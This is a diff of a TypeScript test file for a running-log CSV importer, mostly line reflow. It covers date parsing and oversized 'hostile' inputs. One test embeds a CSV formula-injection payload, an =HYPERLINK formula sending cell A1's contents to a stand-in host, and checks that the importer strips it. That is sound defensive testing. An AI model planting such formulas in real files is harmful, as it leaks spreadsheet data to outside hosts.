@@ -14,7 +14,12 @@ interface Answer {
   readonly code?: terms.ErrorCode;
   readonly source: string | null;
   readonly columns: readonly { role: string; header: string; unit?: string }[];
-  readonly rows: readonly { index: number; row: number; run?: { date: string; distanceKm: number; type: string; planned?: true; athlete?: string }; error?: { code: terms.ErrorCode; detail: string } }[];
+  readonly rows: readonly {
+    index: number;
+    row: number;
+    run?: { date: string; distanceKm: number; type: string; planned?: true; athlete?: string };
+    error?: { code: terms.ErrorCode; detail: string };
+  }[];
   readonly athletes: readonly { athlete: string | null }[];
   readonly toConfirm: readonly number[];
 }
@@ -64,24 +69,52 @@ describe.each(exportVectors)('$name', ({ file, unit, refused, source, columns, u
     if (!table.ok) throw new Error('refused');
     const number = (value: unknown): number | null => (value === '' ? null : Number(value));
     // feet to the tenth of a metre
-    if (elevations) for (const [row, metres] of elevations.entries()) expect(Math.abs((number(table.value.rows[row]!.elevationGainM) ?? 0) - (metres ?? 0))).toBeLessThanOrEqual(0.051);
+    if (elevations)
+      for (const [row, metres] of elevations.entries()) expect(Math.abs((number(table.value.rows[row]!.elevationGainM) ?? 0) - (metres ?? 0))).toBeLessThanOrEqual(0.051);
     if (rpes) expect(table.value.rows.map(({ rpe }) => number(rpe))).toEqual(rpes);
   });
 });
 
 describe('dates of a column', () => {
   test.each([
-    [['22/12/2025', '1/2/2026'], ['2025-12-22', '2026-02-01']], // 22 can be no month, so the day comes first
-    [['12/22/2025', '1/2/2026'], ['2025-12-22', '2026-01-02']],
-    [['1/2/2026', '3/4/2026'], ['1/2/2026', '3/4/2026']], // nothing decides
-    [['22/12/2025', '12/22/2025', '1/2/2026'], ['2025-12-22', '2025-12-22', '1/2/2026']], // both orders in one column
-    [['13/14/2025', '10/18/2025', '10/5/2025'], ['13/14/2025', '2025-10-18', '2025-10-05']], // a day that does not exist decides nothing
+    [
+      ['22/12/2025', '1/2/2026'],
+      ['2025-12-22', '2026-02-01'],
+    ], // 22 can be no month, so the day comes first
+    [
+      ['12/22/2025', '1/2/2026'],
+      ['2025-12-22', '2026-01-02'],
+    ],
+    [
+      ['1/2/2026', '3/4/2026'],
+      ['1/2/2026', '3/4/2026'],
+    ], // nothing decides
+    [
+      ['22/12/2025', '12/22/2025', '1/2/2026'],
+      ['2025-12-22', '2025-12-22', '1/2/2026'],
+    ], // both orders in one column
+    [
+      ['13/14/2025', '10/18/2025', '10/5/2025'],
+      ['13/14/2025', '2025-10-18', '2025-10-05'],
+    ], // a day that does not exist decides nothing
     [['5/5/2026'], ['2026-05-05']],
-    [['1.2.2026', '1.2.26'], ['2026-02-01', '2026-02-01']], // with points the day comes first
-    [['Monday 22/12/2025', 'Mo, 22.12.2025', 'Mon, 22 Dec 2025'], ['2025-12-22', '2025-12-22', '2025-12-22']],
+    [
+      ['1.2.2026', '1.2.26'],
+      ['2026-02-01', '2026-02-01'],
+    ], // with points the day comes first
+    [
+      ['Monday 22/12/2025', 'Mo, 22.12.2025', 'Mon, 22 Dec 2025'],
+      ['2025-12-22', '2025-12-22', '2025-12-22'],
+    ],
     [['Oct 6, 2022, 11:19:20 PM', '6 oct. 2022 à 23:19:20', '6. Oktober 2022', '6 paź 2022', '6 de octubre de 2022'], Array.from({ length: 5 }, () => '2022-10-06')],
-    [['2022-03-11T08:47:36+16:00', '2022-12-12 14:38:08', '2022/12/12', '20221212'], ['2022-03-11', '2022-12-12', '2022-12-12', '20221212']],
-    [['30.02.2026', '31 Apr 2026', 'yesterday', '', 46000, null], ['30/2/2026', '31 Apr 2026', 'yesterday', '', 46000, null]],
+    [
+      ['2022-03-11T08:47:36+16:00', '2022-12-12 14:38:08', '2022/12/12', '20221212'],
+      ['2022-03-11', '2022-12-12', '2022-12-12', '20221212'],
+    ],
+    [
+      ['30.02.2026', '31 Apr 2026', 'yesterday', '', 46000, null],
+      ['30/2/2026', '31 Apr 2026', 'yesterday', '', 46000, null],
+    ],
   ])('%j', (written, read) => {
     expect(readDates(written)).toEqual(read);
   });
@@ -94,7 +127,11 @@ const good = '2026-03-01,10,easy,Ana\n2026-03-02,8,easy,Ana\n';
 const bytesOf = (text: string): Uint8Array<ArrayBuffer> => new TextEncoder().encode(text);
 const utf16 = (text: string): Uint8Array<ArrayBuffer> => new Uint8Array(Buffer.from(text, 'utf16le'));
 const manyRows = (count: number): string =>
-  Array.from({ length: count }, (_, i) => `${2000 + (i % 27)}-${String(1 + (Math.floor(i / 27) % 12)).padStart(2, '0')}-${String(1 + (Math.floor(i / 324) % 28)).padStart(2, '0')},${5 + (i % 11)},easy,A${i % 97}\n`).join('');
+  Array.from(
+    { length: count },
+    (_, i) =>
+      `${2000 + (i % 27)}-${String(1 + (Math.floor(i / 27) % 12)).padStart(2, '0')}-${String(1 + (Math.floor(i / 324) % 28)).padStart(2, '0')},${5 + (i % 11)},easy,A${i % 97}\n`,
+  ).join('');
 
 /** error: the file is refused · rows: how many are answered · bad: codes by index · null: any of it, as long as it is an answer */
 interface Hostile {
@@ -145,7 +182,16 @@ const hostile: readonly Hostile[] = [
   { name: '20,001 rows', csv: head + manyRows(20_001), error: 'too-many-runs' },
   { name: '10,000 rows and as many blank lines', csv: head + manyRows(10_000) + '\n'.repeat(10_001), rows: 10_000 },
   { name: '20,000 races on one day', csv: head + Array.from({ length: 20_000 }, (_, i) => `2026-03-01,${(5 + i / 1000).toFixed(3)} km,race,Ana\n`).join(''), rows: 20_000 },
-  { name: '20,000 races of one athlete', csv: head + Array.from({ length: 20_000 }, (_, i) => `${2000 + Math.floor(i / 336)}-${String(1 + (Math.floor(i / 28) % 12)).padStart(2, '0')}-${String(1 + (i % 28)).padStart(2, '0')},100,race,Ana\n`).join(''), rows: 20_000 },
+  {
+    name: '20,000 races of one athlete',
+    csv:
+      head +
+      Array.from(
+        { length: 20_000 },
+        (_, i) => `${2000 + Math.floor(i / 336)}-${String(1 + (Math.floor(i / 28) % 12)).padStart(2, '0')}-${String(1 + (i % 28)).padStart(2, '0')},100,race,Ana\n`,
+      ).join(''),
+    rows: 20_000,
+  },
   { name: '20,000 athletes', csv: head + Array.from({ length: 20_000 }, (_, i) => `2026-03-01,10,race,Athlete ${i}\n`).join(''), rows: 20_000 },
 ];
 
@@ -165,7 +211,8 @@ describe('hostile files', () => {
   });
 
   test('a formula is never echoed as one', async () => {
-    const title = 'Activity ID,Activity Date,Activity Name,Activity Type,Distance\n1,"Mar 1, 2026, 8:00:00 AM","=HYPERLINK(""http://example.org/?x=""&A1,""Race results"")",Run,10.00\n';
+    const title =
+      'Activity ID,Activity Date,Activity Name,Activity Type,Distance\n1,"Mar 1, 2026, 8:00:00 AM","=HYPERLINK(""http://example.org/?x=""&A1,""Race results"")",Run,10.00\n';
     expect((await post(title)).text).not.toContain('HYPERLINK');
     expect((await post(title)).body.rows[0]!.run!.type).toBe('race'); // the word is read all the same
 
